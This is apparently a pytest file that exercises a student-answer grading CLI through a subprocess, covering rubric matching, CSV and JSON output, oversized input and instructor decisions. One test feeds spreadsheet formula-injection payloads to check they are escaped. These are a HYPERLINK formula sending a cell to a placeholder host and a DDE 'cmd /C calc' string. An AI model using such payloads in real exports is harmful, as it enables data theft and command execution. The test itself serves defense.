"""`gradeformer grade-table`, through the real CLI in a child process."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.shared_data import REPO

RUBRIC = """
slug: quiz
title: Short-answer quiz
review_threshold: 0.6
questions:
  - id: stack
    labels: ["Q1"]
    prompt: What order does a stack remove items in?
    items:
      - id: stack.order
        points: 2
        grader: written
        config:
          elements:
            - id: lifo
              patterns: ['last in,? first out', 'lifo', 'most recently (added|pushed)']
          reference: ["A stack removes the most recently added item first: last in, first out."]
  - id: heads
    prompt: Why use several attention heads?
    items:
      - id: heads.why
        points: 5
        grader: written
        config:
          reference: ["Several heads attend to different positions or relations in parallel."]
"""


def _grade_table(tmp_path: Path, rows: list[list[str]], *extra: str,
                 header: tuple[str, ...] = ("student", "question", "answer"),
                 code: int = 0) -> subprocess.CompletedProcess[str]:
    table = tmp_path / "table.csv"
    with table.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    rubric = tmp_path / "rubric.yaml"
    rubric.write_text(RUBRIC)
    env = dict(os.environ, OPENBLAS_NUM_THREADS="1")
    done = subprocess.run(
        [sys.executable, "-m", "app.cli.main", "grade-table", str(table), "--rubric",
         str(rubric), *extra],
        cwd=REPO, env=env, capture_output=True, text=True, timeout=300, check=False)
    assert done.returncode == code, done.stderr
    return done


def test_one_json_object_per_row_with_the_items(tmp_path: Path) -> None:
    rows = [["ann", "stack", "It is last in, first out."],
            ["bob", "Q1", "Items come out in random order."],
            ["cy", "heads", "Different heads can look at different positions in parallel."],
            ["dee", "heads", ""],
            ["eve", "nope", "anything"]]
    done = _grade_table(tmp_path, rows)
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert [(o["student"], o["question"]) for o in lines] == [(r[0], r[1]) for r in rows]
    first = lines[0]
    assert set(first) == {"student", "question", "total", "items"}
    [item] = first["items"]
    assert set(item) == {"id", "points", "max_points", "status", "confidence", "feedback"}
    assert item["id"] == "stack.order" and item["points"] == 2 and item["status"] == "graded"
    assert first["total"] == 2
    assert lines[1]["items"][0]["points"] == 0  # the label Q1 names the stack question
    assert lines[2]["items"][0]["id"] == "heads.why"
    assert 0 <= lines[2]["items"][0]["confidence"] <= 1
    assert lines[3]["items"][0]["status"] == "missing"
    assert lines[4]["items"] == [] and "not in the rubric" in lines[4]["error"]
    assert "grading" in done.stderr  # the progress bar is on stderr, never in the output


def test_csv_output_has_one_line_per_item(tmp_path: Path) -> None:
    done = _grade_table(tmp_path, [["ann", "stack", "LIFO"], ["bob", "heads", "parallel"]],
                        "--format", "csv")
    out = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [(r["student"], r["item"]) for r in out] == [("ann", "stack.order"),
                                                        ("bob", "heads.why")]
    assert out[0]["points"] == "2" and out[0]["max_points"] == "2"


def test_csv_output_never_holds_a_formula_a_spreadsheet_would_run(tmp_path: Path) -> None:
    """The student column, and feedback quoting an answer, come from students: a cell that
    starts like a formula is written as text, as the exports write it."""
    formulas = ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0",
                "+1+1", "-2+3"]
    rows = [[f, "stack", f] for f in formulas] + [["ann\u200b\U000e0041", "stack", "LIFO"]]
    done = _grade_table(tmp_path, rows, "--format", "csv")
    out = list(csv.reader(io.StringIO(done.stdout)))[1:]
    assert len(out) == len(rows)
    for cells in out:
        assert not any(c.startswith(("=", "+", "@")) for c in cells), cells
        assert all(not c.startswith("-") or c.lstrip("-").replace(".", "").isdigit()
                   for c in cells), cells
    assert out[0][0].startswith("'=HYPERLINK")
    assert out[-1][0] == "ann"  # zero-width and tag characters are not kept


def test_hostile_rows_are_bounded_and_reviewed(tmp_path: Path) -> None:
    huge = "last in first out " * 5000  # 90,000 characters in one cell
    controls = "LIFO\x00\x07 order"
    done = _grade_table(tmp_path, [["ann", "stack", huge], ["bob", "stack", controls],
                                   ["cy", "heads", "(" * 30000]])
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(lines) == 3
    assert lines[0]["items"][0]["status"] == "needs_review"
    assert "longer than" in lines[0]["items"][0]["feedback"]
    assert lines[1]["items"][0]["points"] == 2
    assert lines[2]["items"][0]["status"] in ("graded", "needs_review")


@pytest.mark.parametrize("header", [("name", "question", "answer"), ("student", "answer")])
def test_a_table_without_the_columns_is_refused(tmp_path: Path, header: tuple[str, ...]) -> None:
    done = _grade_table(tmp_path, [["a", "b", "c"]], header=header, code=2)
    assert "student, question, answer" in done.stderr


def test_an_oversized_field_is_one_error_row_and_the_rest_is_graded(tmp_path: Path) -> None:
    done = _grade_table(tmp_path, [["ann", "stack", "x" * 1_100_000], ["bob", "stack", "LIFO"]])
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(lines) == 2
    assert lines[0]["items"] == [] and "cannot be read" in lines[0]["error"]
    assert lines[1]["student"] == "bob" and lines[1]["total"] == 2


def test_instructor_points_become_exemplars_and_set_the_threshold(tmp_path: Path) -> None:
    right = ["Different heads attend to different positions at the same time.",
             "Each head can focus on another relation between the words, in parallel.",
             "Several heads look at different parts of the sentence simultaneously.",
             "Heads learn different attention patterns, e.g. syntax in one and position in "
             "another.",
             "With many heads the model attends to several things at once instead of one "
             "average."]
    wrong = ["Heads make the model smaller.", "It is needed for the softmax to work.",
             "More heads means fewer parameters to train.", "Heads remove the need for values.",
             "They are used to sort the tokens."]
    graded = [[f"g{i}", "heads", text, "5"] for i, text in enumerate(right)]
    graded += [[f"w{i}", "heads", text, "0"] for i, text in enumerate(wrong)]
    rows = [*graded, ["new", "heads", "Different heads can attend to different positions.", ""]]
    done = _grade_table(tmp_path, rows, header=("student", "question", "answer", "points"))
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert len(lines) == len(rows)
    assert lines[0]["items"][0]["points"] == 5 and "instructor" in lines[0]["items"][0]["feedback"]
    assert lines[5]["total"] == 0
    new = lines[-1]["items"][0]
    assert "graded example answers" in new["feedback"]
    assert "heads: 10 instructor-graded answers become exemplars" in done.stderr


@pytest.mark.parametrize("form", ["csv", "json"])
def test_a_decisions_file_acts_as_instructor_points(tmp_path: Path, form: str) -> None:
    right = ["Different heads attend to different positions at the same time.",
             "Each head can focus on another relation between the words, in parallel.",
             "Several heads look at different parts of the sentence simultaneously."]
    wrong = ["Heads make the model smaller.", "It is needed for the softmax to work.",
             "They are used to sort the tokens."]
    rows = [[f"g{i}", "heads", text] for i, text in enumerate(right)]
    rows += [[f"w{i}", "heads", text] for i, text in enumerate(wrong)]
    rows += [["new", "heads", "Different heads can attend to different positions."]]
    decided = {**{f"g{i}": 5 for i in range(3)}, **{f"w{i}": 0 for i in range(3)},
               "ghost": 1}  # a decision naming no row is counted, not applied
    path = tmp_path / f"decisions.{form}"
    if form == "csv":
        path.write_text("student,question,points\n" + "".join(
            f"{s},HEADS,{p}\n" for s, p in decided.items()))
    else:
        path.write_text(json.dumps({s: {"heads": p} for s, p in decided.items()}))
    done = _grade_table(tmp_path, rows, "--decisions", str(path))
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert [line["total"] for line in lines[:6]] == [5, 5, 5, 0, 0, 0]
    assert all("instructor" in line["items"][0]["feedback"] for line in lines[:6])
    assert "graded example answers" in lines[-1]["items"][0]["feedback"]
    assert "decisions: 6 of 7 name a row" in done.stderr
    without = _grade_table(tmp_path, rows)
    assert "graded example answers" not in without.stdout


def test_a_broken_decisions_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "decisions.json"
    path.write_text(json.dumps([{"student": "a", "question": "heads", "points": 0.001}]))
    done = _grade_table(tmp_path, [["a", "heads", "x"]], "--decisions", str(path), code=2)
    assert "hundredths" in done.stderr


HEADS = ["Each head can attend to different positions at the same time.",
         "Different heads learn different relations between tokens in parallel.",
         "Several heads look at several parts of the sentence at once.",
         "More heads means more parameters, so the model is bigger.",
         "Heads attend to different positions or relations in parallel.",
         "So that each head can focus on a different kind of relation."]


def _feedback(done: subprocess.CompletedProcess[str]) -> list[str]:
    return [item["feedback"] for line in done.stdout.splitlines()
            for item in json.loads(line)["items"]]


def test_the_cohort_of_a_question_is_used_unless_switched_off(tmp_path: Path) -> None:
    rows = [[f"s{i}", "heads", text] for i, text in enumerate(HEADS)]
    rows.append(["z", "stack", "Last in, first out."])  # a question with patterns: no cohort
    used = _feedback(_grade_table(tmp_path, rows, "--no-progress"))
    assert all("other students' answers" in f for f in used[:-1])
    assert "other students' answers" not in used[-1]
    alone = _feedback(_grade_table(tmp_path, rows, "--no-progress", "--no-cohort"))
    assert not any("other students' answers" in f for f in alone)
    # One answer to the question is no cohort: the per-answer model grades it.
    single = _feedback(_grade_table(tmp_path, rows[:1], "--no-progress"))
    assert "other students' answers" not in single[0]
    assert single[0] == alone[0]
